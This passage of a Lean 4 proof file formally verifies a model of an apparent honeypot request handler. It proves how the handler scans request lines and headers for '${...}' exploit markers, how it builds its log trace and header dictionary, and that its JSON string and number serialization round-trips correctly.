    exact ⟨c :: p, q, by simp [hpq]⟩

/-- Characterization of a successful search on a newline-free string: the
match starts at the first occurrence of the opening marker `${`, ends with a
closing `}`, and extends to the *last* closing brace of the string (the
greedy, longest span — nothing after the match contains a `}`). -/
theorem reSearch_greedy_leftmost (s m : Str) (hnl : ('\n' : Char) ∉ s)
    (h : reSearch s = some m) :
    ∃ pre mid suf, s = pre ++ m ++ suf ∧ m = '$' :: '{' :: mid ++ ['}'] ∧
      (∀ c ∈ suf, c ≠ '}') ∧ ∀ p q, pre ≠ p ++ '$' :: '{' :: q := by
  induction s using reSearch.induct with
  | case1 => simp [reSearch] at h
  | case2 c cs m' hm =>
    rw [reSearch, hm] at h
    simp at h
    subst h
    obtain ⟨rest, t, hl, hg, hm'⟩ := tryAt_some _ _ hm
    obtain ⟨suf, hsplit, hsuf, mid, hmid⟩ := greedyTail_eq _ _ hg
    have hnlrest : ('\n' : Char) ∉ rest := by
      intro hc; exact hnl (by rw [hl]; simp [hc])
    have hpre : rest.takeWhile (fun c => c != '\n') = rest := by
      refine List.takeWhile_eq_self_iff.mpr ?_
      intro a ha
      simp
      intro hEq
      exact hnlrest (hEq ▸ ha)
    rw [hpre] at hsplit
    refine ⟨[], mid, suf, ?_, ?_, hsuf, ?_⟩
    · rw [hl, hm', hsplit]; simp
    · simp [hm', hmid]
    · intro p q hpq
      simp at hpq
  | case3 c cs hm ih =>
    rw [reSearch, hm] at h
    have hnlcs : ('\n' : Char) ∉ cs := fun hc => hnl (by simp [hc])
    obtain ⟨pre, mid, suf, hs, hm', hsuf, hnopen⟩ := ih hnlcs h
    refine ⟨c :: pre, mid, suf, by simp [hs], hm', hsuf, ?_⟩
    intro p q hpq
    match p, hpq with
    | [], hpq =>
      simp at hpq
      obtain ⟨hc, hpre⟩ := hpq
      have hcs : cs = '{' :: q ++ m ++ suf := by rw [hs, hpre]
      have hmemq : ('}' : Char) ∈ q ++ m ++ suf := by
        have : ('}' : Char) ∈ m := by rw [hm']; simp
        simp [this]
      have hnlq : ('\n' : Char) ∉ q ++ m ++ suf := by
        intro hc2
        apply hnlcs
        rw [hcs]
        simp at hc2 ⊢
        tauto
      obtain ⟨m2, hm2⟩ := tryAt_of_shape (q ++ m ++ suf) hmemq hnlq
      rw [hc] at hm
      rw [show ('$' : Char) :: cs = '$' :: '{' :: (q ++ m ++ suf) by rw [hcs]; simp] at hm
      rw [hm2] at hm
      simp at hm
    | a :: p', hpq =>
      simp at hpq
      exact hnopen p' q hpq.2

/-- If the pattern tail matches, the consumed characters include a closing
brace drawn from the input. -/
theorem greedyTail_close_mem (cs t : Str) (h : greedyTail cs = some t) :
    ('}' : Char) ∈ cs := by
  obtain ⟨suf, hsplit, _, mid, hmid⟩ := greedyTail_eq cs t h
  have : ('}' : Char) ∈ cs.takeWhile (fun c => c != '\n') := by
    rw [hsplit, hmid]; simp
  exact (List.takeWhile_sublist (fun c => c != '\n')).mem this

/-- A string without any closing brace never matches the exploit regex. -/
theorem reSearch_eq_none_of_no_close (s : Str) (h : ('}' : Char) ∉ s) :
    reSearch s = none := by
  induction s using reSearch.induct with
  | case1 => rfl
  | case2 c cs m hm =>
    exfalso
    obtain ⟨rest, t, hl, hg, _⟩ := tryAt_some _ _ hm
    have := greedyTail_close_mem rest t hg
    exact h (by rw [hl]; simp [this])
  | case3 c cs hm ih =>
    rw [reSearch, hm]
    exact ih (fun hc => h (by simp [hc]))

theorem tryAt_not_shape (c : Char) (cs : Str)
    (hshape : ∀ rest, c :: cs ≠ '$' :: '{' :: rest) : tryAt (c :: cs) = none := by
  rcases h : tryAt (c :: cs) with _ | m
  · rfl
  · obtain ⟨rest, t, hl, _, _⟩ := tryAt_some _ _ h
    exact absurd hl (hshape rest)

/-- A string in which no opening marker is followed by a closing brace never
matches the exploit regex. -/
theorem reSearch_eq_none_of_noClose (s : Str) (h : noCloseAfterOpen s = true) :
    reSearch s = none := by
  induction s with
  | nil => rfl
  | cons c cs ih =>
    rcases cs with _ | ⟨c2, cs2⟩
    · rw [reSearch, tryAt_not_shape c [] (by intro rest hEq; simp at hEq)]
      rfl
    · by_cases hc : c = '$'
      · by_cases hc2 : c2 = '{'
        · subst hc; subst hc2
          have h' : ('}' : Char) ∉ cs2 := by
            rw [noCloseAfterOpen] at h
            simpa using h
          have hg : greedyTail cs2 = none := by
            rcases hgt : greedyTail cs2 with _ | t
            · rfl
            · exact absurd (greedyTail_close_mem cs2 t hgt) h'
          rw [reSearch, tryAt, hg]
          simp
          exact reSearch_eq_none_of_no_close _ (by simp [h'])
        · subst hc
          have h' : noCloseAfterOpen (c2 :: cs2) = true := by
            unfold noCloseAfterOpen at h
            split at h
            · rename_i heq
              injection heq with _ h2
              injection h2 with h2 _
              exact absurd h2 hc2
            · rename_i heq
              injection heq with _ h2
              exact h2 ▸ h
            · rename_i heq
              simp at heq
          rw [reSearch, tryAt_not_shape _ _ (by
            intro rest hEq
            injection hEq with _ h2
            injection h2 with h2 _
            exact hc2 h2)]
          exact ih h'
      · have h' : noCloseAfterOpen (c2 :: cs2) = true := by
          unfold noCloseAfterOpen at h
          split at h
          · rename_i heq
            injection heq with h1 _
            exact absurd h1 hc
          · rename_i heq
            injection heq with _ h2
            exact h2 ▸ h
          · rename_i heq
            simp at heq
        rw [reSearch, tryAt_not_shape _ _ (by
          intro rest hEq
          injection hEq with h1 _
          exact hc h1)]
        exact ih h'

/-! ### Properties of the handler trace -/

theorem logCalls_append (a b : List Action) :
    logCalls (a ++ b) = logCalls a ++ logCalls b := by
  simp [logCalls, List.filterMap_append]

theorem logCalls_respActions (sh : Option Str) (uuid : Str) :
    logCalls (respActions sh uuid) = [] := rfl

theorem logCalls_map_log (l : List LogCall) : logCalls (l.map .log) = l := by
  induction l with
  | nil => rfl
  | cons c l' ih => simp [logCalls, List.filterMap_cons] at ih ⊢; exact ih

/-- Control-flow cases of the handler: either it completes, emitting the four
response actions followed by a capture call and the exploit scan, or it aborts
with a Python error, emitting the four response actions only. -/
theorem handler_do_cases (sh : Option Str) (sp : Nat) (ip : Str) (cp : Nat)
    (uuid : Str) (req : Request) :
    (∃ logs, handler_do sh sp ip cp uuid req = (respActions sh uuid ++ logs.map .log, none) ∧
      (logs = LogCall.request sp ip cp req.requestline req.headers uuid ::
          scanAll uuid ip req.requestline req.headers ∨
        ∃ content, logs = LogCall.requestBody sp ip cp req.requestline req.headers uuid content ::
          scanAll uuid ip req.requestline req.headers)) ∨
    (∃ e, handler_do sh sp ip cp uuid req = (respActions sh uuid, some e)) := by
  by_cases hcl : (pyDict req.headers).any (fun p => p.1 == clKey)
  · rcases hv : msgGet req.headers clKey with _ | v
    · right; exact ⟨.typeError, by simp [handler_do, hcl, hv]⟩
    · rcases hn : pyInt v with _ | n
      · right; exact ⟨.valueError, by simp [handler_do, hcl, hv, hn]⟩
      · rcases hd : decodeUtf8 (pyRead req.rfile n) with _ | content
        · right; exact ⟨.unicodeDecodeError, by simp [handler_do, hcl, hv, hn, hd]⟩
        · left
          exact ⟨_, by simp [handler_do, hcl, hv, hn, hd], Or.inr ⟨content, rfl⟩⟩
  · left
    exact ⟨_, by simp [handler_do, hcl], Or.inl rfl⟩

theorem scanHeaders_eq_filterMap (uuid ip : Str) (hs : List (Str × Str)) :
    scanHeaders uuid ip hs =
      (hs.map (fun hv => ("header-".toList ++ hv.1, hv.2))).filterMap
        (fun s => (reSearch s.2).map (fun m => LogCall.exploit s.1 m uuid ip)) := by
  induction hs with
  | nil => rfl
  | cons hv rest ih =>
    rcases hv with ⟨h, v⟩
    rcases hr : reSearch v with _ | m
    · simp [scanHeaders, find_exploit, hr, List.filterMap_cons, ih]
    · simp [scanHeaders, find_exploit, hr, List.filterMap_cons, ih]

/-- The exploit scan produces exactly one exploit call per surface whose text
matches the regex, in surface order. -/
theorem scanAll_eq_filterMap (uuid ip rl : Str) (hs : List (Str × Str)) :
    scanAll uuid ip rl hs =
      (surfaces rl hs).filterMap
        (fun s => (reSearch s.2).map (fun m => LogCall.exploit s.1 m uuid ip)) := by
  rcases hr : reSearch rl with _ | m
  · simp [scanAll, surfaces, find_exploit, hr, List.filterMap_cons, scanHeaders_eq_filterMap]
  · simp [scanAll, surfaces, find_exploit, hr, List.filterMap_cons, scanHeaders_eq_filterMap]

theorem mem_scanAll (uuid ip rl : Str) (hs : List (Str × Str)) (c : LogCall)
    (hc : c ∈ scanAll uuid ip rl hs) :
    ∃ loc text m, (loc, text) ∈ surfaces rl hs ∧ reSearch text = some m ∧
      c = .exploit loc m uuid ip := by
  rw [scanAll_eq_filterMap] at hc
  rw [List.mem_filterMap] at hc
  obtain ⟨s, hs', hmap⟩ := hc
  rcases hr : reSearch s.2 with _ | m
  · rw [hr] at hmap; simp at hmap
  · rw [hr] at hmap
    simp at hmap
    exact ⟨s.1, s.2, m, hs', hr, hmap.symm⟩

/-! ### Properties of `dict(...)` on the header multimap -/

theorem dedupKeysAux_congr (ks : List Str) : ∀ (s1 s2 : List Str),
    (∀ x, s1.any (fun s => s == x) = s2.any (fun s => s == x)) →
    dedupKeysAux s1 ks = dedupKeysAux s2 ks := by
  induction ks with
  | nil => intro _ _ _; rfl
  | cons k ks ih =>
    intro s1 s2 hEq
    rw [dedupKeysAux, dedupKeysAux, hEq k]
    by_cases h2 : s2.any (fun s => s == k)
    · rw [if_pos h2, if_pos h2]
      exact ih s1 s2 hEq
    · rw [if_neg h2, if_neg h2]
      rw [ih (k :: s1) (k :: s2) (fun x => by simp [hEq x])]

theorem dedupKeysAux_nodup_and_fresh (ks : List Str) : ∀ (seen : List Str),
    (dedupKeysAux seen ks).Nodup ∧ ∀ x ∈ dedupKeysAux seen ks, x ∉ seen := by
  induction ks with
  | nil =>
    intro seen
    constructor
    · simp [dedupKeysAux]
    · intro x hx; simp [dedupKeysAux] at hx
  | cons k ks ih =>
    intro seen
    rw [dedupKeysAux]
    by_cases h : seen.any (fun s => s == k)
    · rw [if_pos h]
      exact ih seen
    · rw [if_neg h]
      obtain ⟨hnd, hfresh⟩ := ih (k :: seen)
      have hk_notin : k ∉ seen := by
        intro hk
        exact h (List.any_eq_true.mpr ⟨k, hk, by simp⟩)
      constructor
      · refine List.nodup_cons.mpr ⟨?_, hnd⟩
        intro hkmem
        exact (hfresh k hkmem) (List.mem_cons_self k seen)
      · intro x hx
        rcases List.mem_cons.mp hx with h1 | h1
        · rw [h1]; exact hk_notin
        · intro hxseen
          exact (hfresh x h1) (List.mem_cons_of_mem k hxseen)

theorem dictAssign_present_eq (d : List (Str × Str)) (k : Str) (g : Str → Str)
    (hval : ∀ p ∈ d, p.2 = g p.1) (hmem : d.any (fun p => p.1 == k) = true) :
    dictAssign d k (g k) = d := by
  rw [dictAssign, if_pos hmem]
  refine (List.map_congr_left ?_).trans (List.map_id d)
  intro p hp
  by_cases hpk : p.1 == k
  · rw [if_pos hpk]
    have h1 : p.1 = k := by simpa using hpk
    have h2 := hval p hp
    rcases p with ⟨p1, p2⟩
    simp at h1 h2 ⊢
    rw [h1] at h2 ⊢
    exact ⟨rfl, h2.symm⟩
  · rw [if_neg hpk]; rfl

theorem any_map_fst (l : List (Str × Str)) (k : Str) :
    (l.map Prod.fst).any (fun s => s == k) = l.any (fun p => p.1 == k) := by
  induction l with
  | nil => rfl
  | cons p l ihl => simp [ihl]

theorem foldl_dictAssign_eq (g : Str → Str) (ks : List Str) : ∀ (acc : List (Str × Str)),
    (∀ p ∈ acc, p.2 = g p.1) →
    ks.foldl (fun d k => dictAssign d k (g k)) acc =
      acc ++ (dedupKeysAux (acc.map Prod.fst) ks).map (fun k => (k, g k)) := by
  induction ks with
  | nil => intro acc _; simp [dedupKeysAux]
  | cons k ks ih =>
    intro acc hval
    rw [List.foldl_cons, dedupKeysAux]
    have hany : (acc.map Prod.fst).any (fun s => s == k) = acc.any (fun p => p.1 == k) :=
      any_map_fst acc k
    by_cases hmem : acc.any (fun p => p.1 == k)
    · rw [hany, if_pos hmem, dictAssign_present_eq acc k g hval hmem]
      exact ih acc hval
    · rw [hany, if_neg hmem]
      have hstep : dictAssign acc k (g k) = acc ++ [(k, g k)] := by
        rw [dictAssign, if_neg hmem]
      rw [hstep]
      have hval' : ∀ p ∈ acc ++ [(k, g k)], p.2 = g p.1 := by
        intro p hp
        rcases List.mem_append.mp hp with h | h
        · exact hval p h
        · simp at h; rw [h]
      rw [ih (acc ++ [(k, g k)]) hval']
      have hseen : dedupKeysAux ((acc ++ [(k, g k)]).map Prod.fst) ks =
          dedupKeysAux (k :: acc.map Prod.fst) ks := by
        refine dedupKeysAux_congr ks _ _ ?_
        intro x
        rw [List.map_append, List.any_append, List.any_cons]
        simp only [List.map_cons, List.map_nil, List.any_cons, List.any_nil, Bool.or_false]
        exact Bool.or_comm _ _
      rw [hseen]
      simp

/-- `dict(headers)` keeps exactly the first occurrence of each (exact-case)
header name, in first-occurrence order, and assigns it the value of the first
case-insensitive match. -/
theorem pyDict_characterization (hs : List (Str × Str)) :
    pyDict hs = (dedupKeysAux [] (hs.map Prod.fst)).map
        (fun k => (k, (msgGet hs k).getD [])) ∧
      ((pyDict hs).map Prod.fst).Nodup := by
  have hfold : pyDict hs =
      (hs.map Prod.fst).foldl
        (fun d k => dictAssign d k ((msgGet hs k).getD [])) [] := by
    rw [pyDict, List.foldl_map]
  have hmain : pyDict hs = (dedupKeysAux [] (hs.map Prod.fst)).map
      (fun k => (k, (msgGet hs k).getD [])) := by
    rw [hfold, foldl_dictAssign_eq (fun k => (msgGet hs k).getD []) (hs.map Prod.fst) []
      (by simp)]
    rfl
  refine ⟨hmain, ?_⟩
  rw [hmain]
  have : ((dedupKeysAux [] (hs.map Prod.fst)).map
      (fun k => (k, (msgGet hs k).getD []))).map Prod.fst =
      dedupKeysAux [] (hs.map Prod.fst) := by
    rw [List.map_map]
    exact (List.map_congr_left (fun k _ => rfl)).trans (List.map_id _)
  rw [this]
  exact (dedupKeysAux_nodup_and_fresh (hs.map Prod.fst) []).1

/-! ### Properties of listener startup -/

theorem mkThreads_all_ok (specs : List PortSpec) (h : ∀ sp ∈ specs, sp.bindOk = true) :
    mkThreads specs = .ok (specs.map (fun sp => ⟨sp.port, sp.serve⟩)) := by
  induction specs with
  | nil => rfl
  | cons sp rest ih =>
    have h1 : sp.bindOk = true := h sp (by simp)
    rw [mkThreads, mkServerThread, if_pos h1, ih (fun s hsm => h s (by simp [hsm]))]
    rfl

theorem startProcess_all_ok (specs : List PortSpec) (h : ∀ sp ∈ specs, sp.bindOk = true) :
    startProcess specs = .ok (specs.map (fun sp =>
      match sp.serve with
      | .raises e => [LogCall.exception e]
      | _ => [])) := by
  have hmaps : List.map runThread (specs.map (fun sp => ⟨sp.port, sp.serve⟩)) =
      specs.map (fun sp =>
        match sp.serve with
        | .raises e => [LogCall.exception e]
        | _ => []) := by
    rw [List.map_map]
    refine List.map_congr_left ?_
    intro sp _
    rcases hser : sp.serve with _ | _ | e <;> simp [runThread, hser]
  rw [startProcess, mkThreads_all_ok specs h]
  exact congrArg Except.ok hmaps

/-! ### Round trip of the JSON serialization -/

theorem hexVal_hexChar (d : Nat) (h : d < 16) : hexVal (hexChar d) = some d := by
  interval_cases d <;> decide

theorem readHex4_toHex4 (n : Nat) (h : n < 65536) (rest : Str) :
    readHex4 (toHex4 n ++ rest) = some (n, rest) := by
  have h1 := hexVal_hexChar (n / 4096 % 16) (Nat.mod_lt _ (by norm_num))
  have h2 := hexVal_hexChar (n / 256 % 16) (Nat.mod_lt _ (by norm_num))
  have h3 := hexVal_hexChar (n / 16 % 16) (Nat.mod_lt _ (by norm_num))
  have h4 := hexVal_hexChar (n % 16) (Nat.mod_lt _ (by norm_num))
  simp [toHex4, readHex4, h1, h2, h3, h4]
  omega

theorem char_toNat_valid (c : Char) :
    c.toNat < 55296 ∨ (57343 < c.toNat ∧ c.toNat < 1114112) := by
  have := c.valid
  simp [UInt32.isValidChar, Nat.isValidChar, Char.toNat] at this
  exact this

theorem parseJString_quote (fuel : Nat) (rest : Str) :
    parseJString (fuel + 1) ('"' :: rest) = some ([], rest) := by
  simp [parseJString]

theorem parseJString_backslash (fuel : Nat) (rest : Str) :
    parseJString (fuel + 1) ('\\' :: rest) =
      match parseEsc rest with
      | none => none
      | some (c1, r1) =>
        match parseJString fuel r1 with
        | none => none
        | some (s, r2) => some (c1 :: s, r2) := by
  simp [parseJString]

theorem parseJString_cons_other (fuel : Nat) (c : Char) (rest : Str)
    (h1 : c ≠ '"') (h2 : c ≠ '\\') :
    parseJString (fuel + 1) (c :: rest) =
      match parseJString fuel rest with
      | none => none
      | some (s, r2) => some (c :: s, r2) := by
  rw [parseJString, if_neg h1, if_neg h2]

theorem match_opt_cons (o : Option (Str × Str)) (c : Char) :
    (match o with
     | none => none
     | some (s, r2) => some (c :: s, r2)) = o.map (fun p => (c :: p.1, p.2)) := by
  rcases o with _ | ⟨s, r⟩ <;> rfl

theorem parseEsc_u (r : Str) (n : Nat) (r1 : Str) (h : readHex4 r = some (n, r1)) :
    parseEsc ('u' :: r) = parseEscU n r1 := by
  have hstep : parseEsc ('u' :: r) =
      (match readHex4 r with
       | none => none
       | some (n, r1) => parseEscU n r1) := rfl
  rw [hstep, h]

theorem parseEscU_pair (n : Nat) (hn1 : 55296 ≤ n) (hn2 : n < 56320) (r2 : Str) :
    parseEscU n ('\\' :: 'u' :: r2) = parseEscLow n r2 := by
  unfold parseEscU
  rw [if_pos ⟨hn1, hn2⟩]
  rfl

theorem parseEscU_plain (n : Nat) (hn1 : ¬(55296 ≤ n ∧ n < 56320))
    (hn2 : ¬(56320 ≤ n ∧ n < 57344)) (r1 : Str) :
    parseEscU n r1 = some (Char.ofNat n, r1) := by
  unfold parseEscU
  rw [if_neg hn1, if_neg hn2]

theorem parseEscLow_toHex4 (n m : Nat) (hm : m < 65536) (tail : Str) :
    parseEscLow n (toHex4 m ++ tail) = parseEscPair n m tail := by
  unfold parseEscLow
  rw [readHex4_toHex4 m hm tail]

theorem parseEscPair_pos (n m : Nat) (hm1 : 56320 ≤ m) (hm2 : m < 57344) (tail : Str) :
    parseEscPair n m tail =
      some (Char.ofNat (65536 + (n - 55296) * 1024 + (m - 56320)), tail) := by
  unfold parseEscPair
  rw [if_pos ⟨hm1, hm2⟩]

/-- Parsing one escaped character from the serializer's output consumes
exactly that character's escape and produces the character back. -/
theorem parseJString_escChar (c : Char) (tail : Str) (fuel : Nat) :
    parseJString (fuel + 1) (escChar c ++ tail) =
      (parseJString fuel tail).map (fun p => (c :: p.1, p.2)) := by
  by_cases h1 : c = '"'
  · subst h1
    rw [show escChar '"' ++ tail = '\\' :: '"' :: tail from rfl]
    rw [parseJString_backslash]
    rw [show parseEsc ('"' :: tail) = some ('"', tail) from rfl]
    exact match_opt_cons _ _
  by_cases h2 : c = '\\'
  · subst h2
    rw [show escChar '\\' ++ tail = '\\' :: '\\' :: tail from rfl]
    rw [parseJString_backslash]
    rw [show parseEsc ('\\' :: tail) = some ('\\', tail) from rfl]
    exact match_opt_cons _ _
  by_cases h3 : c = '\n'
  · subst h3
    rw [show escChar '\n' ++ tail = '\\' :: 'n' :: tail from rfl]
    rw [parseJString_backslash]
    rw [show parseEsc ('n' :: tail) = some ('\n', tail) from rfl]
    exact match_opt_cons _ _
  by_cases h4 : c = '\r'
  · subst h4
    rw [show escChar '\r' ++ tail = '\\' :: 'r' :: tail from rfl]
    rw [parseJString_backslash]
    rw [show parseEsc ('r' :: tail) = some ('\r', tail) from rfl]
    exact match_opt_cons _ _
  by_cases h5 : c = '\t'
  · subst h5
    rw [show escChar '\t' ++ tail = '\\' :: 't' :: tail from rfl]
    rw [parseJString_backslash]
    rw [show parseEsc ('t' :: tail) = some ('\t', tail) from rfl]
    exact match_opt_cons _ _
  by_cases h6 : c.toNat = 8
  · have hc : Char.ofNat 8 = c := by rw [← h6]; exact Char.ofNat_toNat c
    rw [show escChar c = ['\\', 'b'] from by
      rw [escChar, if_neg h1, if_neg h2, if_neg h3, if_neg h4, if_neg h5, if_pos h6]]
    rw [show (['\\', 'b'] : Str) ++ tail = '\\' :: 'b' :: tail from rfl]
    rw [parseJString_backslash]
    rw [show parseEsc ('b' :: tail) = some (Char.ofNat 8, tail) from rfl, hc]
    exact match_opt_cons _ _
  by_cases h7 : c.toNat = 12
  · have hc : Char.ofNat 12 = c := by rw [← h7]; exact Char.ofNat_toNat c
    rw [show escChar c = ['\\', 'f'] from by
      rw [escChar, if_neg h1, if_neg h2, if_neg h3, if_neg h4, if_neg h5, if_neg h6,
        if_pos h7]]
    rw [show (['\\', 'f'] : Str) ++ tail = '\\' :: 'f' :: tail from rfl]
    rw [parseJString_backslash]
    rw [show parseEsc ('f' :: tail) = some (Char.ofNat 12, tail) from rfl, hc]
    exact match_opt_cons _ _
  by_cases h8 : c.toNat < 32 ∨ 126 < c.toNat
  · by_cases h9 : c.toNat < 65536
    · -- single \uXXXX escape (basic plane, non-surrogate since valid scalar)
      rw [show escChar c = '\\' :: 'u' :: toHex4 c.toNat from by
        rw [escChar, if_neg h1, if_neg h2, if_neg h3, if_neg h4, if_neg h5, if_neg h6,
          if_neg h7, if_pos h8, if_pos h9]]
      rw [show ('\\' :: 'u' :: toHex4 c.toNat) ++ tail =
        '\\' :: ('u' :: (toHex4 c.toNat ++ tail)) from by simp]
      rw [parseJString_backslash]
      have hvalid := char_toNat_valid c
      have hesc : parseEsc ('u' :: (toHex4 c.toNat ++ tail)) = some (c, tail) := by
        rw [parseEsc_u _ _ _ (readHex4_toHex4 c.toNat h9 tail)]
        unfold parseEscU
        rw [if_neg (by omega), if_neg (by omega), Char.ofNat_toNat]
      rw [hesc]
      exact match_opt_cons _ _
    · -- surrogate pair escape
      have hvalid := char_toNat_valid c
      have hhi : 55296 + (c.toNat - 65536) / 1024 < 65536 := by omega
      have hlo : 56320 + (c.toNat - 65536) % 1024 < 65536 := by
        have := Nat.mod_lt (c.toNat - 65536) (show 0 < 1024 by norm_num)
        omega
      rw [show escChar c =
        ('\\' :: 'u' :: toHex4 (55296 + (c.toNat - 65536) / 1024)) ++
          ('\\' :: 'u' :: toHex4 (56320 + (c.toNat - 65536) % 1024)) from by
        rw [escChar, if_neg h1, if_neg h2, if_neg h3, if_neg h4, if_neg h5, if_neg h6,
          if_neg h7, if_pos h8, if_neg h9]]
      rw [show (('\\' :: 'u' :: toHex4 (55296 + (c.toNat - 65536) / 1024)) ++
          ('\\' :: 'u' :: toHex4 (56320 + (c.toNat - 65536) % 1024))) ++ tail =
        '\\' :: ('u' :: (toHex4 (55296 + (c.toNat - 65536) / 1024) ++
          ('\\' :: 'u' :: (toHex4 (56320 + (c.toNat - 65536) % 1024) ++ tail)))) from by
        simp]
      rw [parseJString_backslash]
      have hdivlt : (c.toNat - 65536) / 1024 < 1024 := by
        apply Nat.div_lt_of_lt_mul
        omega
      have hmodlt : (c.toNat - 65536) % 1024 < 1024 :=
        Nat.mod_lt _ (by norm_num)
      have hesc : parseEsc ('u' :: (toHex4 (55296 + (c.toNat - 65536) / 1024) ++
          ('\\' :: 'u' :: (toHex4 (56320 + (c.toNat - 65536) % 1024) ++ tail)))) =
          some (c, tail) := by
        rw [parseEsc_u _ _ _ (readHex4_toHex4 _ hhi _)]
        rw [parseEscU_pair _ (by omega) (by omega) _]
        rw [parseEscLow_toHex4 _ _ hlo tail]
        rw [parseEscPair_pos _ _ (by omega) (by omega) tail]
        have harith : 65536 + ((55296 + (c.toNat - 65536) / 1024) - 55296) * 1024 +
            ((56320 + (c.toNat - 65536) % 1024) - 56320) = c.toNat := by
          have hdm := Nat.div_add_mod (c.toNat - 65536) 1024
          omega
        rw [harith, Char.ofNat_toNat]
      rw [hesc]
      exact match_opt_cons _ _
  · -- printable ASCII other than the escaped specials: emitted literally
    rw [show escChar c = [c] from by
      rw [escChar, if_neg h1, if_neg h2, if_neg h3, if_neg h4, if_neg h5, if_neg h6,
        if_neg h7, if_neg h8]]
    rw [show ([c] : Str) ++ tail = c :: tail from rfl]
    rw [parseJString_cons_other fuel c tail h1 h2]
    exact match_opt_cons _ _

/-- Round trip for serialized string bodies. -/
theorem parseJString_escapeStr (s : Str) : ∀ (tail : Str) (fuel : Nat), s.length < fuel →
    parseJString fuel (escapeStr s ++ '"' :: tail) = some (s, tail) := by
  induction s with
  | nil =>
    intro tail fuel hf
    rcases fuel with _ | fuel
    · omega
    · rw [show escapeStr [] ++ '"' :: tail = '"' :: tail from rfl]
      exact parseJString_quote fuel tail
  | cons c s ih =>
    intro tail fuel hf
    rcases fuel with _ | fuel
    · omega
    · rw [show escapeStr (c :: s) ++ '"' :: tail =
        escChar c ++ (escapeStr s ++ '"' :: tail) from by simp [escapeStr]]
      rw [parseJString_escChar c _ fuel]
      rw [ih tail fuel (by simp at hf; omega)]
      rfl

/-! ### Round trip of decimal numbers -/

theorem digitChar_isDigit (d : Nat) (h : d < 10) : (digitChar d).isDigit = true := by
  interval_cases d <;> decide

theorem digitChar_toNat (d : Nat) (h : d < 10) : (digitChar d).toNat = 48 + d := by
  interval_cases d <;> decide

theorem natSerAux_fuel (m : Nat) : ∀ (fuel fuel' : Nat), m ≤ fuel → m ≤ fuel' →
    natSerAux fuel m = natSerAux fuel' m := by
  induction m using Nat.strong_induction_on with
  | _ m ih =>
    intro fuel fuel' h1 h2
    rcases m with _ | m
    · cases fuel <;> cases fuel' <;> rfl
    · rcases fuel with _ | fuel
      · omega
      · rcases fuel' with _ | fuel'
        · omega
        · have hlt : (m + 1) / 10 < m + 1 := Nat.div_lt_self (Nat.succ_pos m) (by omega)
          show natSerAux fuel ((m + 1) / 10) ++ [digitChar ((m + 1) % 10)] =
            natSerAux fuel' ((m + 1) / 10) ++ [digitChar ((m + 1) % 10)]
          congr 1
          exact ih _ hlt fuel fuel' (by omega) (by omega)

theorem natSerCore_zero : natSerCore 0 = [] := rfl

theorem natSerCore_succ (n : Nat) :
    natSerCore (n + 1) = natSerCore ((n + 1) / 10) ++ [digitChar ((n + 1) % 10)] := by
  have hlt : (n + 1) / 10 < n + 1 := Nat.div_lt_self (Nat.succ_pos n) (by omega)
  show natSerAux n ((n + 1) / 10) ++ [digitChar ((n + 1) % 10)] =
    natSerAux ((n + 1) / 10) ((n + 1) / 10) ++ [digitChar ((n + 1) % 10)]
  congr 1
  exact natSerAux_fuel ((n + 1) / 10) n ((n + 1) / 10) (by omega) (by omega)

theorem natSerCore_digits (n : Nat) : ∀ c ∈ natSerCore n, c.isDigit = true := by
  induction n using Nat.strong_induction_on with
  | _ n ih =>
    rcases n with _ | n
    · intro c hc; simp [natSerCore_zero] at hc
    · intro c hc
      rw [natSerCore_succ] at hc
      rcases List.mem_append.mp hc with h | h
      · exact ih _ (Nat.div_lt_self (Nat.succ_pos n) (by omega)) c h
      · simp at h
        rw [h]
        exact digitChar_isDigit _ (Nat.mod_lt _ (by norm_num))

theorem parseDigitsAux_stop (a : Nat) (tail : Str) (h : headIsDigit tail = false) :
    parseDigitsAux a tail = (a, tail) := by
  cases tail with
  | nil => rfl
  | cons c r =>
    rw [headIsDigit] at h
    rw [parseDigitsAux, if_neg (by simp [h])]

theorem parseDigitsAux_digits (ds : Str) : ∀ (a : Nat) (tail : Str),
    (∀ c ∈ ds, c.isDigit = true) →
    parseDigitsAux a (ds ++ tail) =
      parseDigitsAux (ds.foldl (fun x c => x * 10 + (c.toNat - 48)) a) tail := by
  induction ds with
  | nil => intro a tail _; rfl
  | cons c ds ih =>
    intro a tail hd
    have hc : c.isDigit = true := hd c (by simp)
    rw [List.cons_append, parseDigitsAux, if_pos hc, List.foldl_cons]
    exact ih _ tail (fun x hx => hd x (by simp [hx]))

theorem foldl_natSerCore (n : Nat) : ∀ (a : Nat),
    (natSerCore n).foldl (fun x c => x * 10 + (c.toNat - 48)) a =
      a * 10 ^ (natSerCore n).length + n := by
  induction n using Nat.strong_induction_on with
  | _ n ih =>
    rcases n with _ | n
    · intro a; simp [natSerCore_zero]
    · intro a
      rw [natSerCore_succ, List.foldl_append,
        ih _ (Nat.div_lt_self (Nat.succ_pos n) (by omega)) a, List.length_append]
      rw [List.foldl_cons, List.foldl_nil]
      rw [digitChar_toNat _ (Nat.mod_lt _ (by norm_num))]
      have hdm := Nat.div_add_mod (n + 1) 10
      simp [List.length_nil]
      ring_nf
      omega

theorem natSerCore_ne_nil (n : Nat) (h : n ≠ 0) : natSerCore n ≠ [] := by
  cases n with
  | zero => exact absurd rfl h
  | succ n => rw [natSerCore_succ]; simp

theorem parseJNat_natSer (n : Nat) (tail : Str) (h : headIsDigit tail = false) :
    parseJNat (natSer n ++ tail) = some (n, tail) := by
  by_cases h0 : n = 0
  · subst h0
    rw [show natSer 0 ++ tail = '0' :: tail from rfl]
    rw [parseJNat, if_pos (by decide)]
    rw [show ('0' : Char).toNat - 48 = 0 from rfl]
    rw [parseDigitsAux_stop 0 tail h]
  · rcases hc : natSerCore n with _ | ⟨c, ds⟩
    · exact absurd hc (natSerCore_ne_nil n h0)
    · have hdigits := natSerCore_digits n
      rw [hc] at hdigits
      have hcd : c.isDigit = true := hdigits c (by simp)
      rw [show natSer n ++ tail = c :: (ds ++ tail) from by
        rw [natSer, if_neg h0, hc]; rfl]
      rw [parseJNat, if_pos hcd]
      rw [parseDigitsAux_digits ds _ tail (fun x hx => hdigits x (by simp [hx]))]
      rw [parseDigitsAux_stop _ tail h]
      have hfold := foldl_natSerCore n (0 : Nat)
      rw [hc] at hfold
      rw [List.foldl_cons] at hfold
      simp at hfold
      rw [hfold]

/-! ### Round trip of values, dicts, and whole records -/

theorem escChar_length_pos (c : Char) : 0 < (escChar c).length := by
  unfold escChar
  repeat' split
  all_goals simp [toHex4]

